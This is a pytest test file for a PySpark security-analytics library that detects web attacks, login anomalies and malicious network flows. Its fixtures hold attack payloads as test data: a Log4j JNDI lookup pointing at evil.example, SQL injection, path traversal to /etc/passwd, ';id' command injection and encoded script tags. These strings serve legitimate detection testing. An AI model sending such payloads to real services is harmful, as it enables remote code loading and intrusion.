"""Operators on hand-made rows, with ties, nulls, zero denominators and odd texts."""

import json
import math
import random
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from tracefold.functions import numbers as N
from tracefold.functions import text as T
from tracefold.operators import alerts, api, findings, flows, history, login, metrics, profiling, retrieval, split, tabular
from tracefold.plans import catalogue
from tracefold.sources import readers, sinks
from tracefold.streaming import access_log


def values(spark, rows, kind, *columns):
    df = spark.createDataFrame([(x,) for x in rows], f"x {kind}")
    return [tuple(r) for r in df.select(*columns).collect()]


def test_bins(spark):
    x = F.col("x")
    assert [r[0] for r in values(spark, [0.0, 1.0, 2.0, 3.0, 9.0, 10.0, 29.0, 30.0], "double", N.count_bin(x))] == [1, 2, 2, 3, 3, 4, 4, 5]
    assert [r[0] for r in values(spark, [0.0, 0.005, 0.01, 0.2, 0.5, 0.8, 1.0, 7.0, -1.0], "double", N.rate_bin(x))] == [0, 1, 1, 2, 3, 4, 5, 5, 0]
    assert [r[0] for r in values(spark, [0.0, 59.0, 60.0, 604800.0], "double", N.gap_bin(x))] == [1, 1, 2, 7]
    got = values(spark, [["a"], ["a", "b"], []], "array<string>", N.list_entropy(x))
    assert -1e-9 < got[0][0] < 0 and abs(got[1][0] - 1) < 1e-9 and got[2][0] == 0


def test_clean_and_outcome(spark):
    assert [r[0] for r in values(spark, [None, "", " N/A ", "--", "A \t b", "Null", "NaN x"], "string", T.clean(F.col("x")))] == ["unknown", "unknown", "unknown", "unknown", "a b", "unknown", "nan x"]
    assert [r[0] for r in values(spark, ["true", "no", "1.0", "2", None, "x", "YES", "inf", "-1.7"], "string", T.outcome(F.col("x")))] == [1, 0, 1, 2, 0, 0, 1, 0, -1]


def test_ip_tokens(spark):
    cases = {
        "10.0.0.1": "ipv4_private", "127.0.0.1": "ipv4_private", "224.0.0.1": "ipv4_multicast", "240.0.0.1": "ipv4_private", "8.8.8.8": "ipv4_public", "100.64.0.1": "ipv4_public", "::1": "ipv6_private", "ff02::1": "ipv6_multicast",
        "64:ff9b::1": "ipv6_reserved", "2a00:1450::1": "ipv6_public", "not-an-ip": "invalid_ip", "1.2.3": "invalid_ip", "300.1.1.1": "invalid_ip", "unknown": "unknown_ip",
    }
    assert [r[0] for r in values(spark, list(cases), "string", T.ip_token(F.col("x")))] == list(cases.values())


def test_devices_and_scenarios(spark):
    assert [r[0] for r in values(spark, ["iphone 12", "ipad", "windows pc", "my server", "toaster", "unknown"], "string", T.device_family(F.col("x")))] == ["mobile", "tablet", "desktop", "server", "other_device", "unknown_device"]
    got = values(spark, ["backbone_capture_1", "wordpress_hydra", "x_patator", "plain", ""], "string", T.scenario_tool(F.col("x")), T.scenario_app(F.col("x")))
    assert got == [("benign", "backbone_capture"), ("hydra", "wordpress"), ("patator", "x"), ("unknown", "plain"), ("unknown", "unknown")]


def test_urls(spark):
    x = F.col("x")
    got = values(spark, ["http://1.2.3.4:80/a//b?q=1&Q=%41#f", "https://h/<b>?x=", "/only/path", ""], "string", T.url_host(x), T.url_path(x), T.url_query(x))
    assert got == [("1.2.3.4:80", "/a//b", "q=1&Q=%41"), ("h", "/<b>", "x="), ("", "/only/path", ""), ("", "", "")]
    assert values(spark, ["/Users/42//deadbeef00/abcdefgh1jklmnopqrstuvwxyz/Home", "/"], "string", T.path_template(x)) == [("/users/{num}/{hex}/{token}/home",), ("/",)]
    pairs = values(spark, ["b=2&A=%2531&c&=v&a=x+y"], "string", T.query_pairs(x))[0][0]
    assert [(p.k, p.v) for p in pairs] == [("", "v"), ("a", "1"), ("a", "x y"), ("b", "2"), ("c", "")]


def test_decoding_is_idempotent_and_keeps_stray_signs(spark):
    x = F.col("x")
    got = values(spark, ["100%", "%2527", "a+b", "%zz", "%C3%A9", "%ff"], "string", T.decoded(x), T.decoded(T.decoded(x)))
    assert [g[0] for g in got] == ["100%", "'", "a b", "%zz", "é", "�"] and all(a == b for a, b in got)
    assert values(spark, ["${${::-j}ndi:ldap}", "se/**/lect"], "string", T.canonical(x)) == [("${jndi:ldap} ${jndi:ldap}",), ("se lect select",)]


def test_value_shapes(spark):
    cases = {"": "empty", "a\nb": "newline", "<script": "script", "../x": "traversal", "ldap:x": "lookup", "cmd=ls": "command", "1 or 1=1": "sql", "y" * 40: "long", "123": "number", "abcdef0123456789": "hex", "word": "plain"}
    assert [r[0] for r in values(spark, list(cases), "string", T.value_shape(F.col("x")))] == list(cases.values())


@pytest.fixture(scope="module")
def events(spark):
    random.seed(5)
    rows = []
    for i in range(160):
        t = datetime(2024, 1, 1) + timedelta(hours=random.choice([0, 1, 5, 24, 25, 200, 700]) + random.randint(0, 3) * 24)
        rows.append((i, random.choice("ab") if i else "alone", t, random.choice([0, 1, 2, None]), random.choice("xyz")))
    df = spark.createDataFrame(rows, "event_id long, user_id string, login_timestamp timestamp, login_successful int, ip string")
    return df.withColumns({c: F.col("ip") for c in ("device", "country", "region", "city", "ip_token", "device_token", "geo_token", "context_token")})


def test_history_against_a_loop(spark, events):
    got = {r.event_id: r for r in history.features(events.repartition(7)).collect()}
    rows = sorted(events.collect(), key=lambda r: (r.user_id, r.login_timestamp, r.event_id))
    assert len(got) == len(rows)
    for i, r in enumerate(rows):
        past = [p for p in rows[:i] if p.user_id == r.user_id]
        g = got[r.event_id]
        assert g.has_prior_login == int(bool(past))
        assert g.seconds_since_prev_login == ((r.login_timestamp - past[-1].login_timestamp).total_seconds() if past else 0)
        assert g.is_new_ip == int(all(p.ip != r.ip for p in past)) and g.prev_login_same_ip == int(bool(past) and past[-1].ip == r.ip)
        assert g.current_ip_token_prior_count == sum(p.ip == r.ip for p in past)
        streak = 0
        for p in reversed(past):
            if p.login_successful != 1:
                break
            streak += 1
        if all(p.login_successful is not None for p in past):
            assert g.prior_success_streak == streak
        for d in (1, 7, 30):
            window = [p for p in past if r.login_timestamp - timedelta(days=d) <= p.login_timestamp < r.login_timestamp]
            assert g[f"login_count_window{d}"] == len(window)
            assert g[f"failure_count_window{d}"] == sum(p.login_successful == 0 for p in window)
            kinds = {p.ip for p in window}
            assert g[f"unique_ip_tokens_window{d}"] == len(kinds)
            shares = [sum(p.ip == k for p in window) / len(window) for k in kinds]
            assert abs(g[f"entropy_ip_tokens_window{d}"] + sum(s * math.log2(s + 1e-10) for s in shares)) < 1e-9
    names = [c for b in history.blocks().values() for c in b]
    assert len(names) == len(set(names)) == 159 and set(names) <= set(next(iter(got.values())).asDict())


def test_history_uses_one_exchange(spark, events):
    plan = history.features(events)._jdf.queryExecution().executedPlan().toString()
    assert plan.count("Exchange hashpartitioning") == 1


def test_login_normalize(spark):
    raw = spark.createDataFrame([("U1", "10.0.0.1", "DE", "n/a", "", "iPhone", "2024-01-01 10:00:00", "true"), ("-", "8.8.8.8", "a", "b", "c", "d", "2024-01-01", "1"), ("U2", "8.8.8.8", "a", "b", "c", "pc", "never", "1")], list(login.COLUMNS))
    got = login.normalize(raw).collect()
    assert len(got) == 1 and got[0].context_token == "ipv4_private|mobile|geo_country_only" and got[0].login_successful == 1
    with pytest.raises(ValueError, match="missing"):
        login.normalize(raw.drop("City"))


@pytest.mark.parametrize("n", [1, 2, 10, 97])
def test_splits(spark, n):
    rows = [(i, None if i % 10 == 9 else datetime(2024, 1, 1) + timedelta(days=i % 7), i % 3) for i in range(n)]
    df = spark.createDataFrame(rows, "id long, t timestamp, g int").repartition(5)
    got = [r.split for r in split.by_time(df, "t", "id").collect()]
    want = (int(n * 0.75), int(n * 0.08))
    assert (got.count("train"), got.count("val"), got.count("test")) == (*want, n - sum(want))
    order = {"train": 0, "val": 1, "test": 2}
    ranks = [order[r.split] for r in sorted(split.by_time(df, "t", "id").collect(), key=lambda r: (r.t is None, r.t or 0 if r.t is None else r.t.timestamp(), r.id))]
    assert ranks == sorted(ranks)
    assert split.by_time(df, "t", "id", within="g").count() == n
    with pytest.raises(ValueError, match="ratios"):
        split.by_time(df, "t", "id", ratios=(0.5, 0.1, 0.1))


def test_shards_keep_keys_together(spark):
    df = split.shards(spark.range(500).withColumn("k", F.col("id") % 37), "k", 8)
    assert df.groupBy("k").agg(F.count_distinct("shard_id").alias("n")).where("n > 1").count() == 0


def test_metrics(spark):
    df = spark.createDataFrame([(1, 0.9), (1, 0.2), (0, 0.6), (0, 0.1), (0, 0.05)], "y int, p double")
    r = metrics.confusion(df, "y", "p").collect()[0]
    assert (r.tp, r.tn, r.fp, r.fn) == (1, 2, 1, 1) and r.precision == r.recall == 0.5
    for s in metrics.sweep(df, "y", "p", (0.1, 0.5, 0.95)).collect():
        one = metrics.confusion(df, "y", "p", s.threshold).collect()[0]
        assert (s.tp, s.tn, s.fp, s.fn) == (one.tp, one.tn, one.fp, one.fn)
    assert metrics.alert_threshold(df.limit(0), "p", 0.05).collect()[0].threshold == 1.0


def test_network_flows(spark):
    columns = ["Dst Port", "Protocol", "Timestamp", "Flow Duration", "Tot Fwd Pkts", "Tot Bwd Pkts", "TotLen Fwd Pkts", "TotLen Bwd Pkts", "Label", "Flow Byts/s", "SYN Flag Cnt"]
    rows = [("443", "6", "02/03/2018 10:00:00", "10", "3", "1", "300", "0", "Benign", "inf", "2"), ("-1", "17", "bad", "0", "0", "0", "0", "0", "FTP-BruteForce", "5", ""), ("Dst Port", *["x"] * 7, " Label ", "x", "x")]
    df = flows.network_features(flows.normalize_network(spark.createDataFrame(rows, columns)))
    a, b = df.orderBy("flow_duration", ascending=False).collect()
    assert a.event_timestamp == datetime(2018, 3, 2, 10) and b.event_timestamp is None
    assert (a.transport_token, b.transport_token) == ("tcp|system_port", "udp|invalid_port")
    assert (a.fwd_packet_share, a.fwd_bwd_packet_ratio, a.fwd_bwd_bytes_ratio, a.syn_flag_share) == (0.75, 3.0, 0.0, 1.0)
    assert b.fwd_packet_share == b.bytes_per_packet == 0.0 and b.is_system_port == 1 and b.attack_family == "Unknown" and b.label_binary == 1
    assert all(c in df.columns for block in flows.BLOCKS.values() for c in block) and sum(map(len, flows.BLOCKS.values())) == 40


def test_https_flows(spark):
    columns = ["SRC_IP", "DST_IP", "DST_PORT", "PROTOCOL", "TIME_FIRST", "TIME_LAST", "BYTES", "BYTES_REV", "PACKETS", "PACKETS_REV", "SCENARIO", "CLASS", "TLS_SNI"]
    rows = [("1.1.1.1", "2.2.2.2", "443", "6", "2024-01-01T00:00:00", "2024-01-01T00:00:10", "100", "50", "4", "1", "app_hydra", "1", ""), ("1.1.1.1", "", "80", "6", "2024-01-01", "2023-01-01", "0", "0", "0", "0", None, "0", None)]
    got = flows.https_features(flows.normalize_https(spark.createDataFrame(rows, columns))).orderBy("dst_port").collect()
    assert [r.service_key for r in got] == ["unknown:80:6", "2.2.2.2:443:6"] and got[1].duration == 10.0 and got[0].duration == 0.0
    assert got[1].bytes_per_packet == 30.0 and abs(got[1].bytes_per_second_log1p - math.log1p(15)) < 1e-12 and got[0].bytes_per_second_log1p == 0
    assert (got[1].attack_tool, got[1].target_app, got[1].is_tls_port, got[0].attack_tool) == ("hydra", "app", 1, "unknown")


def test_profile_and_risk(spark):
    df = spark.createDataFrame([(float(i), float(i % 2), -1.0 if i % 3 else 5.0, None) for i in range(100)], "pkt_total double, flag_x double, win double, gone double")
    p = {r.column_name: r for r in profiling.profile(df, df.columns).collect()}
    assert p["pkt_total"].p95 == 94.05 and p["pkt_total"].semantic_group == "volume" and p["flag_x"].transform_recommendation == "keep_binary_indicator"
    assert p["win"].range_bucket == "signed" and p["gone"].range_bucket == "all_missing" and p["gone"].missing_ratio == 1.0
    z = profiling.sentinel_scale(df, ["win"]).agg(F.avg("win_z"), F.stddev_pop("win_z"), F.sum("win_valid")).collect()[0]
    assert abs(z[0]) < 1e-6 and abs(z[1] - 1) < 1e-6 and z[2] == 34
    risk = profiling.block_risk(profiling.robust_profile(df, ["pkt_total"]))
    scores = df.select(profiling.fused_risk({"a": (0.7, risk), "b": (0.7, risk)}).alias("r")).agg(F.min("r"), F.max("r")).collect()[0]
    assert 0 <= scores[0] < scores[1] <= 1


def event(path="/search", query="", status=200, agent="agent", cookie=False):
    return ("2024-01-01T00:00:00Z", "GET", "h", path, path, query, "10.0.0.1", agent, "text/html", status, 10, False, cookie)


CASES = [
    (event(query="q=${${::-j}ndi:ldap://x}"), "LOG4J"), (event(query="f=..%2f..%2fetc"), "Directory Traversal"), (event(query="q=%253Cscript%253E"), "XSS"), (event(query="c=;id"), "RCE"), (event(query="c=a%0aadmin"), "Log Forging"),
    (event(query="id=1' or 1=1"), "SQL Injection"), (event("/docs/sql", "q=select a from b"), None), (event("/docs/sql", "q=1 or 1=1"), "SQL Injection"), (event("/login/x", cookie=True), "Cookie Injection"), (event("/login/x"), None), (event(query="q=books"), None),
]


def test_alert_rules(spark):
    df = spark.createDataFrame([e for e, _ in CASES], alerts.EVENT_SCHEMA).withColumn("n", F.monotonically_increasing_id())
    assert [r.security_finding for r in alerts.with_signal(df).orderBy("n").collect()] == [x for _, x in CASES]
    rows = [event(query="id=1' or 1=1", status=s) for s in (200, 403, 500, 302)]
    got = alerts.alerts(spark.createDataFrame(rows, alerts.EVENT_SCHEMA)).collect()
    assert [(r.severity, r.title) for r in sorted(got, key=lambda r: r.status_code)] == [("critical", "Input validation misconfiguration"), ("high", "Unsafe handling: SQL Injection"), ("medium", "Blocked suspicious request: SQL Injection"), ("high", "Unsafe handling: SQL Injection")]


def test_tailed_file_gives_each_alert_once(spark, tmp_path):
    names = [x.split()[0] for x in alerts.EVENT_SCHEMA.split(", ")]
    log = tmp_path / "log.jsonl"

    def add(*events):
        with log.open("a") as f:
            for e in events:
                f.write(json.dumps(dict(zip(names, e, strict=True))) + "\n")

    def run():
        q = access_log.write_alerts(access_log.follow(spark, str(log)), str(tmp_path / "out"), str(tmp_path / "checkpoint"))
        q.processAllAvailable()
        q.stop()
        return spark.read.json(str(tmp_path / "out")).count()

    add(*(e for e, _ in CASES))
    assert run() == sum(x is not None for _, x in CASES)
    add(CASES[0][0])
    with log.open("a") as f:
        f.write('{"half')
    assert run() == 1 + sum(x is not None for _, x in CASES)


def test_streamed_counts_equal_batch(spark, tmp_path):
    names = [x.split()[0] for x in alerts.EVENT_SCHEMA.split(", ")]
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.json").write_text("".join(json.dumps(dict(zip(names, e, strict=True))) + "\n" for e, _ in CASES))
    q = access_log.abuse_counts(access_log.rolled(spark, str(tmp_path / "in"))).writeStream.format("memory").queryName("abuse").outputMode("complete").trigger(availableNow=True).start()
    q.awaitTermination()
    assert spark.sql("select sum(n) from abuse").collect()[0][0] == sum(x is not None for _, x in CASES)


@pytest.fixture(scope="module")
def traffic(spark, tmp_path_factory):
    def one(url, tag=None, status="200", body=""):
        return {"request": {"headers": {"Host": "h.example", "User-Agent": "ua", "Content-Type": "application/json"}, "method": "get", "url": url, "body": body, "Attack_Tag": tag}, "response": {"status": "x", "headers": {"Date": "Mon, 01 Jan 2024 10:00:00 GMT"}, "status_code": status, "body": "{}"}}

    folder = tmp_path_factory.mktemp("api")
    good = [one(f"http://h.example/items/{i}?q=book{i}") for i in range(12)]
    bad = [one(f"http://h.example/items/{i}?q=1%27%20or%201%3D1--", "SQL Injection") for i in range(6)] + [one("http://h.example/f?p=../../etc/passwd", "Directory Traversal", "403")]
    (folder / "dataset_1_train.json").write_text(json.dumps(good + bad))
    (folder / "dataset_1_val.json").write_text(json.dumps(good[:2]))
    return readers.api_json(spark, str(folder))


def test_api_traffic(spark, traffic):
    df = api.features(api.normalize(traffic))
    rows = df.collect()
    assert len(rows) == 21 and {r.label_known for r in rows} == {0, 1} and all(r.label_binary is None for r in rows if not r.label_known)
    sql = [r for r in rows if r.attack_type == "SQL Injection"]
    assert len(sql) == 6 and all(r.request_contains_sql_keywords and r.sql_request_got_2xx and r.path_template == "/items/{num}" and "attack_sql" in r.semantic_tokens for r in sql)
    blocked = next(r for r in rows if r.attack_type == "Directory Traversal")
    assert blocked.suspicious_request_got_4xx == 1 and blocked.traversal_request_got_2xx == 0 and blocked.event_timestamp == datetime(2024, 1, 1, 10)
    assert api.leaks(df) and not api.leaks(api.request_features(api.normalize(traffic)).drop(*[c for c in df.columns if c.startswith(("response_", "combined_"))]))
    assert api.without_hints(df).agg(F.sum("request_signal_score")).collect()[0][0] == 0


def test_retrieval_model(spark, traffic, tmp_path):
    df = api.bag(api.request_features(api.normalize(traffic))).withColumn("id", F.monotonically_increasing_id()).where("label_known = 1").cache()
    model = retrieval.RetrievalModel.fit(df, threshold=0.05)
    model.save(str(tmp_path / "m"))
    got = retrieval.RetrievalModel.load(spark, str(tmp_path / "m")).predict(df)
    rows = got.select("label_binary", "y_pred", "attack_type", "predicted_attack_type", "y_score").collect()
    assert all(r.y_pred == r.label_binary for r in rows) and all((r.predicted_attack_type == r.attack_type) for r in rows if r.attack_type in ("Benign", "SQL Injection"))


def test_bag_sees_the_whole_request(spark, tmp_path):
    def one(url, body, headers, status="200"):
        return {"request": {"headers": {"Host": "h.example"} | headers, "method": "POST", "url": url, "body": body, "Attack_Tag": "LOG4J"}, "response": {"status": "x", "headers": {"Content-Type": "application/json"}, "status_code": status, "body": "{}"}}

    def bags(*requests):
        folder = tmp_path / str(len(list(tmp_path.iterdir())))
        folder.mkdir()
        (folder / "dataset_1_train.json").write_text(json.dumps(requests))
        df = api.features(api.normalize(readers.api_json(spark, str(folder))))
        both = [api.bag(df, context).select("url", "bag").collect() for context in (False, True)]
        return [{r.url: [(t.token, t.weight) for t in r.bag] for r in rows} for rows in both]

    usual = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101 Firefox/1.0", "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
    late = "name=reader%20of%20many%20books&note=" + "%2520".join("abcdefgh") + "%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/x%7D"
    many = "&".join(f"k{i}={'+'.join(f'w{i}x{j}' for j in range(40))}" for i in range(9))
    plain, answered = bags(one("http://h.example/docs/list/of/books?Page=2&Sort=up%2520down", late, usual), one("http://h.example/many?" + many, "tail", {}, "403"))
    got = plain["http://h.example/docs/list/of/books?Page=2&Sort=up%2520down"]
    assert sum(w for t, w in got if t == "family:payload_log4j") == 8
    for t in ("request_body:jndi", "body_raw:ldap", "payload_token:evil", "query_value:sort:up", "query_value:sort:down", "query_key_set:page", "request_header_names:user-agent", "host:h.example", "path_template:/docs/list/of/books", "context:docs", "method:post", "path:books"):
        assert t in dict(got), t
    weights = dict(got)
    assert weights["method:post"] == weights["path:list"] == 1 and weights["attack_log4j"] == 8 and weights["flag:request_contains_log4j"] == 6 and weights["flag:request_method_is_post"] == weights["flag:parse_status_ok"] == 1
    assert not any(t.startswith(("impact:", "outcome:", "flag:response", "flag:suspicious")) for t, _ in got)
    first = answered["http://h.example/docs/list/of/books?Page=2&Sort=up%2520down"]
    assert sum(w for t, w in first if t == "impact:log4j_request_got_2xx") == 4 and {"outcome:accepted", "response_status_family:2xx"} <= set(dict(first)) and dict(first)["flag:log4j_request_got_2xx"] == 3 and "flag:response_content_type_is_json" in dict(first)
    blocked = answered["http://h.example/many?" + many]
    assert {"outcome:blocked", "response_status_family:4xx"} <= set(dict(blocked))
    payload = [t for t, _ in plain["http://h.example/many?" + many] if t.startswith(("query_value:", "payload_token:", "request_body:"))]
    assert len(payload) == 256 and {sum(t.startswith(f"query_value:k{i}:") for t in payload) for i in range(4)} == {32} and "query_value:k0:w0x32" not in payload and not any(t.startswith("query_value:k4:") for t in payload)


def test_hashed_vectors_take_whole_documents(spark, tmp_path):
    spark.createDataFrame([(1, " ".join(f"w{i}" for i in range(500))), (2, "a b1 b1"), (3, "")], "doc_id long, text string").write.parquet(str(tmp_path / "documents.parquet"))
    got = {r.id: r for r in catalogue.QUERIES["hashed_vectors"](spark, str(tmp_path)).collect()}
    want = spark.createDataFrame([(f"w{i}",) for i in range(500)], "t string").select(F.count_distinct(F.pmod(F.xxhash64("t"), F.lit(2048)))).collect()[0][0]
    assert got[1].buckets == want > 400 and got[2].buckets == 1 and set(got) == {1, 2}
    assert {len(r.tokens.split()) for r in catalogue.QUERIES["lexical_tokens"](spark, str(tmp_path)).where("doc_id = 1").collect()} == {32}


def test_dense_rows_meet_all_references_in_blocks(spark):
    draw = random.Random(3)
    vectors = [[draw.gauss(0, 1) for _ in range(8)] for _ in range(90)] + [[1.0] * 8] * 30
    refs = retrieval.dense(spark.createDataFrame([*enumerate(vectors), (500, None), (501, [float("nan")] * 8)], "n long, e array<float>"), "n", "e")
    assert refs.count() == 120
    rows = refs.where("id % 10 = 0")
    cosine = lambda a, b: sum(x * y for x, y in zip(a, b, strict=True)) / math.sqrt(sum(x * x for x in a) * sum(x * x for x in b))
    vectors = [r.v for r in refs.orderBy("id").collect()]
    want = {(i, j) for i in range(0, 120, 10) for j in sorted((j for j in range(120) if j != i), key=lambda j: (-round(cosine(vectors[i], vectors[j]), 12), j))[:7]}
    for block in (5, 1000):
        assert {(r.id, r.ref) for r in retrieval.nearest(rows, refs, 7, others=True, block=block).collect()} == want
    own = retrieval.nearest(rows, refs, 1).collect()
    assert len(own) == 12 and all(abs(r.similarity - 1) < 1e-9 for r in own)


def test_tail_reads_lines_longer_than_its_bound(tmp_path):
    from tracefold.sources.tail import TailReader

    log = tmp_path / "log"
    log.write_bytes(b"short\n" + b"x" * 95 + b"\nafter\n" + b"y" * 50)
    reader = TailReader(str(log), 10, 10.0, True)
    end = reader.latestOffset()
    parts = reader.partitions(reader.initialOffset(), end)
    rows = [[x for batch in reader.read(p) for x in batch.column(0).to_pylist()] for p in parts]
    assert len(parts) == 11 and [x for part in rows for x in part] == ["short", "x" * 95, "after"]
    assert list(end.values()) == [6 + 96 + 6] and reader.partitions(end, end) == []


def test_tabular(spark):
    df = spark.range(200).select((F.col("id") % 2).cast("int").alias("y"), (F.col("id") % 2 + F.rand(1)).alias("a"), F.rand(2).alias("b"), F.lit("t").alias("name"))
    assert tabular.resolve(df, metadata=["y"]) == ["a", "b"] and tabular.resolve(df, {"x": ["b", "name"]}, use=["x"], include=["a", "b"]) == ["b", "a"]
    best = tabular.ablation(df, df, {"good": ["a"], "noise": ["b"]}, "y")
    assert best[-1]["block"] == "noise" and best[0]["f1"] > 0.95


def test_sources_and_sinks(spark, tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "a.csv").write_text('k,v\n1,"x,\ny"\n2,\n')
    spark.createDataFrame([("3", "z", "w")], "k string, v string, more string").coalesce(1).write.parquet(str(tmp_path / "p"))
    next((tmp_path / "p").glob("*.parquet")).rename(tmp_path / "d" / "b.parquet")
    got = {(r.k, r.v, r.more) for r in readers.folder(spark, str(tmp_path / "d")).collect()}
    assert got == {("1", "x,\ny", None), ("2", None, None), ("3", "z", "w")}
    with pytest.raises(ValueError, match="no reader"):
        readers.any_table(spark, "x.txt")
    df = split.shards(spark.range(100).withColumn("u", F.col("id") % 9), "u", 4)
    sinks.shards(df, str(tmp_path / "s"), ["id"])
    one = readers.shard(spark, str(tmp_path / "s"), 2)
    assert one.count() == df.where("shard_id = 2").count() and "PartitionFilters: [isnotnull(shard_id" in one._jdf.queryExecution().executedPlan().toString()
    sinks.report(spark, {"a": 1}, str(tmp_path / "r"))
    assert readers.manifest(spark, str(tmp_path / "r")) == {"a": 1}


def test_findings(spark):
    columns = "y_pred int, predicted_attack_type string, suspicious_request_got_2xx int, suspicious_request_got_4xx int, request_has_authorization int, method string, y_score double, nearest_benign_similarity double"
    rows = [(0, "Benign", 0, 0, 1, "GET", 0.0, 1.0), (1, "XSS", 1, 0, 1, "GET", 0.5, 0.5), (1, "XSS", 0, 1, 1, "GET", 0.5, 0.5), (1, "XSS", 0, 0, 1, "GET", 0.5, 0.5), (1, "Unknown", 0, 0, 0, "GET", 0.5, 0.5), (1, "Unknown", 0, 0, 1, "POST", 0.5, 0.5)]
    df = findings.with_explanation(findings.with_finding(spark.createDataFrame(rows, columns).coalesce(1)))
    got = df.collect()
    assert [r.security_finding for r in got] == ["no_static_security_anomaly", "possible_xss_exposure", "attack_attempt_blocked_by_client_error", "attempted_xss_exposure", "authorization_context_absent", "body_content_type_absent"]
    assert got[0].explanation.startswith("nearest benign similarity=1.000") and "signals=authorization header present, suspicious request accepted" in got[1].explanation
    probes = spark.createDataFrame([("a", "attack", "XSS", 1, "XSS"), ("a", "benign", "Benign", 0, "Benign"), ("a", "attack", "XSS", 1, "RCE"), ("b", "attack", "XSS", 0, "Benign")], "goal string, label_expected string, attack_type_expected string, y_pred int, predicted_attack_type string")
    a, b = findings.probe_summary(probes, "goal").orderBy("goal").collect()
    assert (a.rows, a.binary_pass_rate, b.strict_pass_rate) == (3, 1.0, 0.0) and abs(a.strict_pass_rate - 2 / 3) < 1e-9


def test_profile_reads_numbers_without_a_text(spark):
    """Doubles and whole numbers aren't written out and read again; other types are, with the same result as their text."""
    df = spark.sql("SELECT CAST(id * 0.1 AS DOUBLE) AS d, id * 3 AS n, CAST(id * 0.1 AS FLOAT) AS f, CAST(id AS STRING) AS s, CASE WHEN id = 1 THEN double('-0.0') WHEN id = 2 THEN double('inf') END AS odd FROM range(11)")
    plain = spark.range(3).select("id", F.col("id").cast("double").alias("d"))
    plans = [profiling.long_numbers(plain, [c])._jdf.queryExecution().analyzed().toString() for c in ("d", "id")]
    assert not any("as string" in p for p in plans)
    a, b = ({r["column_name"]: r.asDict() for r in profiling.profile(x, df.columns).collect()} for x in (df, df.select(*(F.col(c).cast("string") for c in df.columns))))
    assert set(a) == set(df.columns) and str(sorted(a.items())) == str(sorted(b.items()))  # NaN too
    assert a["n"]["p50"] == 15 and a["f"]["max"] == 1.0 and a["odd"]["total_rows"] == 11 and a["odd"]["non_null_count"] == 2
